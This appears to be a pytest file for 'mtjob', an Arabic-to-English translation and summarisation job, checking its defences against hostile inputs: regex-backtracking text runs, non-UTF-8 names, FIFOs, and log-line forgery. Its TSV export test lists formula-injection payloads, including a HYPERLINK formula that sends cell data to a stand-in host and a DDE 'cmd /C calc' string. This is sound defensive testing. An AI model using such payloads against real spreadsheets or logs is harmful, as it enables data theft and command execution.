"""What the second adversarial test broke (issue 24): stale output no rerun repairs, hangs on
hostile text or paths, injected cells and log lines, names that collide with mtjob's own."""

from __future__ import annotations

import time

import pytest

from mtjob.inputs import reader
from mtjob.text import clean as textclean
from mtjob.terms import glossary
from mtjob.terms.check import check_terms
from mtjob.terms.index import TermIndex
from mtjob.text import quality, segment

MB = 1 << 20


def _linear(fn, text):
    """Run ``fn`` on 1 MB of hostile text; a backtracking pattern takes hours on it."""
    began = time.process_time()
    fn(text)
    assert time.process_time() - began < 1.0, f"{fn.__name__} is not linear"


_RUNS = ["." * MB, "؟" * MB, "…" * MB, ".!?" * (MB // 3), "." + '"' * MB, ".)" * (MB // 2),
         "a." * (MB // 2), "a" * MB + ". x", "،" * MB, " " * MB + ".", "\u2028" * MB,
         "1," * (MB // 2) + "x", "\u0640" * MB, "\u200f" * MB]


@pytest.mark.parametrize("text", _RUNS, ids=range(len(_RUNS)))
def test_text_functions_are_linear_on_1mb_runs(text):
    _linear(segment.split_sentences, text)
    _linear(textclean.clean_for_model, text)
    _linear(textclean.count_removed, text)
    _linear(quality.numbers_in, text)
    _linear(reader.split_paragraphs, text)


def test_segmenting_a_1mb_punctuation_run_is_linear_and_keeps_every_mark():
    text = "." * MB
    began = time.process_time()
    pieces = segment.segment_paragraph(text, lambda xs: [len(x) // 4 for x in xs], 1 << 30)
    assert time.process_time() - began < 1.0
    assert "".join(pieces) == text


@pytest.mark.parametrize("text", ["x&\n" + "\n" * MB + "y&\n", "x\n" + " \n" * (MB // 2),
                                  "&\n" * (MB // 2), "\n" * MB])
def test_paragraph_splitting_is_linear_on_blank_lines(text):
    _linear(reader.split_paragraphs, text)


def test_glossary_checks_are_linear():
    index = TermIndex(glossary.parse("مجلس\taa|a a|...\n".encode(), "g.tsv"))
    _linear(lambda t: check_terms("مجلس", t, index), "a" * MB)
    _linear(lambda t: check_terms("مجلس", t, index), "a " * (MB // 2))
    _linear(lambda t: check_terms("مجلس" * (MB // 4), t, index), "." * MB)


def test_sentence_ends_are_those_of_the_backtracking_pattern(monkeypatch):
    """The linear pattern splits exactly where the old one did, on random short texts."""
    import random
    import re

    old = re.compile(r"[.!?؟؛…]+[\"'»”’)\]]*(?=[\s\u2028\u2029\u0085])")
    rng = random.Random(24)
    texts = ["".join(rng.choice('ab .!?؟…"»)\n\u2028x') for _ in range(rng.randint(0, 30)))
             for _ in range(3000)]
    new = [segment.split_sentences(t) for t in texts]
    monkeypatch.setattr(segment, "_END", old)
    assert new == [segment.split_sentences(t) for t in texts]


# --- item 7: a file name that is not UTF-8 ----------------------------------------------

def _cfg(**kw):
    from mtjob.config import JobConfig

    return JobConfig(mt_model="fake-mt", sum_model="fake-sum", sum_min_length=5, **kw)


def _run(inputs, out, rank=0, world=1, **kw):
    from mtjob.job import run_shard
    from mtjob.testing.fakes import FakeModels

    return run_shard(_cfg(**kw), inputs, out, rank, world, models=FakeModels())


@pytest.mark.parametrize("world", [1, 2])
def test_a_name_that_is_not_utf8_fails_alone(tmp_path, caplog, world):
    import json
    import logging
    import os
    import shutil

    from .conftest import SAMPLE

    inbox = tmp_path / os.fsdecode(b"in\xff")  # the folder too
    inbox.mkdir()
    shutil.copy(SAMPLE, inbox / "good.txt")
    shutil.copy(SAMPLE, inbox / os.fsdecode(b"bad\xfe\n.txt"))
    out = tmp_path / "out"
    with caplog.at_level(logging.INFO):
        reports = [_run([inbox], out, rank, world, report=True) for rank in range(world)]
    assert sum(len(r.done) for r in reports) == 1
    assert [o.doc_id for r in reports for o in r.failed] == ["bad\\xfe\n"]
    assert (out / "good.jsonl").is_file()
    assert "bad\\udcfe\\n.txt" in caplog.text and "not valid UTF-8" in caplog.text
    for manifest in (out / "_mtjob").glob("manifest-*.json"):
        json.loads(manifest.read_bytes().decode("utf-8"))  # strict UTF-8
    assert sum(len(_run([inbox], out, rank, world).failed) for rank in range(world)) == 1


# --- items 1 and 2: the index never vouches for bytes it did not translate ---------------

def _source_sha(path):
    import hashlib

    return hashlib.sha256(path.read_bytes()).hexdigest()


def _abstract_sha(out, doc_id):
    import json

    return json.loads((out / f"{doc_id}.abstract.json").read_text())["source_sha256"]


@pytest.fixture
def inbox(tmp_path):
    folder = tmp_path / "inbox"
    folder.mkdir()
    (folder / "a.txt").write_text("قال المتحدث إن الاجتماع عقد في العاصمة.\n", encoding="utf-8")
    return folder


@pytest.mark.parametrize("racy_ns", [None, -(1 << 62)])
def test_a_source_changed_during_its_run_is_redone_next_run(tmp_path, inbox, monkeypatch,
                                                            racy_ns):
    from mtjob.outfolder import index
    from mtjob.runs.bookkeeping import Bookkeeping

    if racy_ns is not None:  # the file counts as settled: only the read stat can catch it
        monkeypatch.setattr(index, "RACY_NS", racy_ns)
        monkeypatch.setattr(index, "FINE_RACY_NS", racy_ns)
    source, out = inbox / "a.txt", tmp_path / "out"
    real = Bookkeeping.done

    def copy_finishes(self, *args, **kwargs):  # the rest of the file lands mid-run
        with open(source, "a", encoding="utf-8") as f:
            f.write("وأضاف أن المحادثات ستستمر.\n")
        return real(self, *args, **kwargs)

    monkeypatch.setattr(Bookkeeping, "done", copy_finishes)
    assert _run([inbox], out).done == ["a"]
    monkeypatch.setattr(Bookkeeping, "done", real)
    assert _run([inbox], out).done == ["a"]  # not "1 unchanged"
    assert _abstract_sha(out, "a") == _source_sha(source)
    assert _run([inbox], out).unchanged == ["a"]


def test_a_same_second_same_size_correction_is_picked_up(tmp_path, inbox, monkeypatch):
    """A filesystem with whole-second timestamps (simulated: every stat floored to the
    second; the correction is made in the same second, most runs): the row is racily clean,
    never trusted."""
    import os

    from mtjob.outfolder import index

    real = index._stats

    def coarse(*args, **kwargs):
        stats = real(*args, **kwargs)
        return stats and [v // 10**9 * 10**9 if i in (1, 2, 5, 7) else v
                          for i, v in enumerate(stats)]

    monkeypatch.setattr(index, "_stats", coarse)
    source, out = inbox / "a.txt", tmp_path / "out"
    assert _run([inbox], out).done == ["a"]
    st = source.stat()
    data = source.read_bytes()
    source.write_bytes(data.replace("العاصمة".encode(), "المدينة".encode()))  # same size
    os.utime(source, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert source.stat().st_size == st.st_size
    assert _run([inbox], out).done == ["a"]
    assert _abstract_sha(out, "a") == _source_sha(source)


def test_a_settled_source_is_indexed_on_the_next_run(tmp_path, inbox, monkeypatch):
    """The racy rule costs one hash, not the index: once the file is older, a row is kept."""
    from mtjob.outfolder import index
    from mtjob.runs import bookkeeping as shard

    out = tmp_path / "out"
    assert _run([inbox], out).done == ["a"]
    monkeypatch.setattr(index, "FINE_RACY_NS", -(1 << 62))  # as if time had passed
    monkeypatch.setattr(index, "RACY_NS", -(1 << 62))
    assert _run([inbox], out).unchanged == ["a"]  # full check; the row is stored now
    monkeypatch.setattr(shard, "source_sha256", lambda path: pytest.fail("hashed"))
    assert _run([inbox], out).unchanged == ["a"]


# --- item 3: a glossary edited mid-run ---------------------------------------------------

def test_a_glossary_edited_mid_run_is_recorded_as_loaded(tmp_path, inbox, monkeypatch):
    import hashlib
    import json

    from mtjob import job

    terms = tmp_path / "terms.tsv"
    first = "المتحدث\tzzz-never-said\n".encode()
    terms.write_bytes(first)
    real = job.translate_segments

    def edited(*args, **kwargs):  # the editor saves while the model runs
        result = real(*args, **kwargs)
        terms.write_bytes("المتحدث\tspokesman|zzz-never-said|x\n".encode())
        return result

    monkeypatch.setattr(job, "translate_segments", edited)
    out = tmp_path / "out"
    assert _run([inbox], out, glossary=str(terms)).done == ["a"]
    meta = json.loads((out / "a.abstract.json").read_text())
    assert meta["settings"]["glossary_sha256"] == hashlib.sha256(first).hexdigest()
    monkeypatch.setattr(job, "translate_segments", real)
    assert _run([inbox], out, glossary=str(terms)).done == ["a"]  # the new glossary applies
    assert _run([inbox], out, glossary=str(terms)).unchanged == ["a"]


# --- items 8 and 11: every path besides the inputs ---------------------------------------

def _cli(*args):
    from typer.testing import CliRunner

    from mtjob.cli import app

    return CliRunner().invoke(app, [str(a) for a in args], catch_exceptions=False)


@pytest.mark.parametrize("option, fifo", [
    ("--config", "c.toml"), ("--glossary", "g.tsv"), ("--metrics-file", "m.prom"),
    ("--metrics-file", ".m.prom.lock"), ("--out", "out"), ("--report", "o/report")])
def test_a_fifo_given_for_any_path_option_is_refused_not_waited_on(tmp_path, inbox, tiny_args,
                                                                   deadline, option, fifo):
    import os

    (tmp_path / "o").mkdir()
    os.mkfifo(tmp_path / fifo)
    target = tmp_path / fifo.removeprefix(".").removesuffix(".lock")
    args = ["--out", tmp_path / "o"] if option != "--out" else []
    given = [option] if option == "--report" else [option, target]
    result = _cli("run", inbox, *args, *given, *tiny_args)
    assert result.exit_code == 2, result.output
    assert "not a regular file" in result.output or "not a folder" in result.output
    assert result.output.count("\n") == 1


@pytest.mark.parametrize("where", ["input", "inbox", "output", "bookkeeping", "config",
                                   "glossary", "memory"])
def test_the_metrics_file_never_replaces_a_file_of_the_run(tmp_path, inbox, tiny_args, where):
    out = tmp_path / "o"
    assert _cli("run", inbox, "--out", out, *tiny_args).exit_code == 0
    (tmp_path / "c.toml").write_text("[translation]\nbeams = 1\n")
    (tmp_path / "g.tsv").write_text("قال\tsaid\n")
    target = {"input": inbox / "a.txt", "inbox": inbox / "new.txt", "output": out / "a.jsonl",
              "bookkeeping": out / "_mtjob" / "x.prom", "config": tmp_path / "c.toml",
              "glossary": tmp_path / "g.tsv", "memory": tmp_path / "mem.sqlite"}[where]
    (tmp_path / "mem.sqlite").write_bytes(b"SQLite format 3\x00 (the shared memory)")
    memory = ["--memory", tmp_path / "mem.sqlite"] if where == "memory" else []
    before = target.read_bytes() if target.exists() else None
    result = _cli("run", inbox, "--out", out, "--config", tmp_path / "c.toml",
                  "--glossary", tmp_path / "g.tsv", *memory, "--metrics-file", target,
                  *tiny_args)
    assert result.exit_code == 2 and "--metrics-file" in result.output, result.output
    assert (target.read_bytes() if target.exists() else None) == before


# --- items 9 and 10: numbers that must be bounded ----------------------------------------

@pytest.mark.parametrize("value", ["nan", "inf", "-1", "1e309", "-inf", "1e12"])
def test_wait_lock_is_bounded(tmp_path, inbox, value, deadline):
    result = _cli("run", inbox, "--out", tmp_path / "o", "--wait-lock", value, "--mt-model", "x")
    assert result.exit_code == 2 and "--wait-lock must be between 0 and" in result.output
    assert not (tmp_path / "o").exists()


@pytest.mark.parametrize("args, env", [
    (["--shard", "0/100000"], {}), (["--shard", "5/99999999999999999999"], {}),
    ([], {"SLURM_ARRAY_TASK_ID": "0", "SLURM_ARRAY_TASK_COUNT": "99999999999999999999"}),
    ([], {"SLURM_ARRAY_TASK_COUNT": "4"}),
])
def test_shard_counts_are_bounded(tmp_path, inbox, monkeypatch, args, env):
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    result = _cli("run", inbox, "--out", tmp_path / "o", *args, "--mt-model", "x")
    assert result.exit_code == 2, result.output
    assert "at most 99999 shards" in result.output or "pass --shard" in result.output


def test_the_largest_shard_count_is_visible_to_verify(tmp_path, inbox):
    from mtjob.outfolder.verify import verify

    out = tmp_path / "o"
    _run([inbox], out, 99998, 99999)
    _run([inbox], out, 0, 1)  # another count replaces it, as documented
    assert verify(out) == []
    with pytest.raises(Exception, match="at most 99999"):
        _run([inbox], out, 0, 100000)


# --- item 12: TSV formula injection --------------------------------------------------------

_FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
             "- قال المتحدث", "+1+1", "\tx", "\rx", "=1+1", "-"]


@pytest.mark.parametrize("excel", [True, False])
def test_tsv_cells_are_neutralised_for_excel(tmp_path, excel):
    import csv

    from mtjob.export import export_folder
    from mtjob.testing.output_folder import sentence, write_finished

    out = tmp_path / "out"
    write_finished(out, "=cmd", [[sentence(f, f, score=-0.5)] for f in _FORMULAS])
    export_folder(out, "tsv", excel=excel)
    with open(out / "export" / "tsv" / "=cmd.tsv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f, delimiter="\t"))[1:]
    assert len(rows) == len(_FORMULAS)
    for row, formula in zip(rows, _FORMULAS):
        expected = "'" + formula if excel else formula
        assert (row[0], row[3], row[4]) == ("'=cmd" if excel else "=cmd", expected, expected)
        assert row[5] == "-0.5"  # a number stays a number


# --- item 13 and "also seen": no name can forge or split a log line -----------------------

HOSTILE = "h\n2026-01-01 00:00:00,000 ERROR mtjob: FORGED\x1b[31m\u2028\x85\u202e"
_LINE = r"^(\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} (DEBUG|INFO|WARNING|ERROR) |Error: |Warning: " \
        r"|ok: |exported |'?/)"


def _hostile_inbox(tmp_path, bad=True):
    import os

    inbox = tmp_path / ("inbox" if bad else "clean")
    inbox.mkdir()
    text = "قال المتحـــدث\u200f إن\x01 الاجتماع\uffff عقد في العاصمة.\n"
    (inbox / f"{HOSTILE}.txt").write_text(text, encoding="utf-8")  # tatweel, control, XML
    if not bad:
        return inbox
    (inbox / f"{HOSTILE}2.txt").write_bytes(b"\xffbroken")  # fails
    os.mkfifo(inbox / f"{HOSTILE}3.txt")  # skipped
    os.symlink(inbox / f"{HOSTILE}.txt", inbox / f"{HOSTILE}4.txt")  # followed, then a dup
    return inbox


def test_every_log_call_site_escapes_a_hostile_name(tmp_path, caplog, deadline):
    """Each message as logged (no formatter's help): the run's sites, export's, verify's."""
    import logging

    from mtjob.export import export_folder
    from mtjob.outfolder.verify import check_folder

    inbox, clean = _hostile_inbox(tmp_path), _hostile_inbox(tmp_path, bad=False)
    with caplog.at_level(logging.DEBUG):
        _run([inbox], tmp_path / "out", report=True)
        _run([clean], tmp_path / "out2", report=True)
        for fmt in ("html", "xliff", "tmx", "tsv"):
            export_folder(tmp_path / "out2", fmt)
        check_folder(tmp_path / "out", [inbox], False)
    for record in caplog.records:
        message = record.getMessage()
        assert not set(message) & set("\n\r\x1b\u2028\x85\u202e"), message
    for needle in ("invisible character(s)", "XML 1.0 cannot hold", "control character",
                   "the same file as", "FIFO", "invalid UTF-8", "done "):
        assert needle in caplog.text, needle


def test_no_output_line_of_the_cli_can_be_forged(tmp_path, tiny_args, deadline):
    import re

    inbox, out = _hostile_inbox(tmp_path), tmp_path / "out"
    clean, out2 = _hostile_inbox(tmp_path, bad=False), tmp_path / "out2"
    outputs = [_cli("run", inbox, "--out", out, "--report", *tiny_args[:-1]),
               _cli("run", clean, "--out", out2, *tiny_args[:-1]),
               _cli("verify", out, "--inputs", inbox)]
    outputs += [_cli("export", out2, "--format", fmt) for fmt in ("html", "xliff", "tmx", "tsv")]
    outputs.append(_cli("verify", out2, "--inputs", clean))
    assert [r.exit_code for r in outputs] == [1, 0, 1, 0, 0, 0, 0, 0]
    text = "".join(r.output for r in outputs)
    assert "FORGED" in text
    for line in text.splitlines():  # what a terminal or log collector sees
        assert re.match(_LINE, line), line
    assert not set(text) & set("\x1b\u2028\x85\u202e")


def test_the_json_log_is_one_line_per_record(tmp_path, tiny_args):
    import json

    inbox, out = _hostile_inbox(tmp_path), tmp_path / "out"
    result = _cli("run", inbox, "--out", out, "--log-format", "json", *tiny_args[:-1])
    lines = result.output.splitlines()  # splitlines: U+2028 and U+0085 split it too
    assert lines and all(isinstance(json.loads(line), dict) for line in lines)
    assert "\u202e" not in result.output
    assert any(json.loads(line).get("article", "").startswith("h\n2026") for line in lines)


# --- item 4: outputs of archived inputs stay checked ---------------------------------------

@pytest.mark.parametrize("worlds", [(1, 1), (2, 2), (1, 3), (3, 1)])
def test_outputs_of_archived_inputs_stay_checked(tmp_path, worlds):
    import json

    from mtjob.outfolder.verify import verify

    inbox, out = tmp_path / "inbox", tmp_path / "out"
    inbox.mkdir()
    for name in ("old", "new"):
        (inbox / f"{name}.txt").write_text(f"قال المتحدث {name} في العاصمة.\n", encoding="utf-8")
    archive = tmp_path / "archive"
    archive.mkdir()
    for rank in range(worlds[0]):
        _run([inbox / "old.txt"], out, rank, worlds[0])
    (inbox / "old.txt").rename(archive / "old.txt")  # processed: moved away by the cron job
    for rank in range(worlds[1]):
        _run([inbox], out, rank, worlds[1])
    assert verify(out) == []
    path = out / "old.abstract.json"
    meta = json.loads(path.read_text())
    meta["abstract"] = "An edited abstract."
    path.write_text(json.dumps(meta, ensure_ascii=False, indent=2, sort_keys=True) + "\n")
    assert any("old.abstract.json" in p and "edited" in p for p in verify(out))
    path.unlink()
    (out / "old.jsonl").unlink()  # the outputs removed on purpose: no longer listed
    for rank in range(worlds[1]):
        _run([inbox], out, rank, worlds[1])
    assert verify(out) == []


# --- items 5 and 14: the review pages always match the folder ------------------------------

def _pages(out):
    return sorted(p.name for p in (out / "report").glob("*.html"))


def test_report_pages_match_the_folder_after_every_report_run(tmp_path, inbox):
    from mtjob.outfolder.verify import check_folder

    out = tmp_path / "out"
    _run([inbox], out)  # without --report
    _run([inbox], out, report=True)  # added to an existing folder
    assert _pages(out) == ["a.html", "index.html"]
    assert check_folder(out).warnings == []
    (inbox / "a.txt").write_text("قال الوزير إن المحادثات ستستمر.\n", encoding="utf-8")
    _run([inbox], out)  # regenerated without --report: the page is stale now
    assert any("stale" in w for w in check_folder(out).warnings)
    _run([inbox], out, report=True)  # nothing to translate, the page is brought in line
    assert check_folder(out).warnings == []
    (out / "report" / "a.html").unlink()  # as a kill between the article and its page
    assert any("missing" in w for w in check_folder(out).warnings)
    _run([inbox], out, report=True)
    assert check_folder(out).warnings == [] and _pages(out) == ["a.html", "index.html"]


def test_articles_named_like_the_index_keep_their_pages(tmp_path):
    from mtjob.export import export_folder
    from mtjob.outfolder.verify import check_folder

    inbox, out = tmp_path / "inbox", tmp_path / "out"
    inbox.mkdir()
    names = ["index", "_index", "__index", "INDEX", "a"]
    for name in names:
        (inbox / f"{name}.txt").write_text(f"قال {name} في العاصمة.\n", encoding="utf-8")
    _run([inbox], out, report=True)
    expected = ["_INDEX.html", "___index.html", "__index.html", "_index.html", "a.html",
                "index.html"]
    assert _pages(out) == expected
    index = (out / "report" / "index.html").read_text(encoding="utf-8")
    assert "5 articles" in index
    for name in names:
        page = (out / "report" / f"{'_' if name != 'a' else ''}{name}.html").read_text()
        assert f"<h1>{name}</h1>" in page
    assert check_folder(out).warnings == []
    exported = export_folder(out, "html")
    assert sorted(p.name for p in exported.folder.iterdir()) == expected


# --- item 16: temp files a kill left anywhere are cleaned ----------------------------------

def test_temp_files_in_report_and_runs_are_cleaned(tmp_path, inbox):
    import os
    import time

    from mtjob.outfolder.atomic import TMP_MARK

    out = tmp_path / "out"
    _run([inbox], out, report=True)
    (out / "_mtjob" / "runs").mkdir(exist_ok=True)
    stale = [out / "report" / f".a.html{TMP_MARK}1-ab", out / "report" / f".index.html{TMP_MARK}2",
             out / "_mtjob" / "runs" / f".20260101T000000Z-00000.json{TMP_MARK}3"]
    for path in stale:
        path.write_text("partial")
        os.utime(path, (time.time() - 3600, time.time() - 3600))
    fresh = out / "_mtjob" / "runs" / f".20260101T000001Z-00000.json{TMP_MARK}4"
    fresh.write_text("being written by a run that released its lock")
    assert _run([inbox], out, report=True).unchanged == ["a"]
    assert [p.exists() for p in stale] == [False, False, False] and fresh.exists()


# --- item 15: the Python API takes strings only ----------------------------------------------

@pytest.mark.parametrize("texts, error, message", [
    ([None], TypeError, "item 0 is NoneType, not str"),
    (["ok", 5], TypeError, "item 1 is int, not str"),
    ([b"\xd9\x82"], TypeError, "item 0 is bytes, not str"),
    ({"قال": 1}, TypeError, "not dict"),
    ({"قال"}, TypeError, "not set"),
    (b"abc", TypeError, "not bytes"),
    ("قال", TypeError, "not one string"),
    (None, TypeError, "not NoneType"),
    (["قال", "a\ud800b"], ValueError, "item 1 is not valid Unicode text"),
])
def test_translate_refuses_what_is_not_text_before_any_model(texts, error, message):
    from mtjob.api import Pipeline

    pipeline = Pipeline(mt_model="/no/such/model", sum_model="/no/such/model")
    with pytest.raises(error, match=message):
        pipeline.translate(texts)
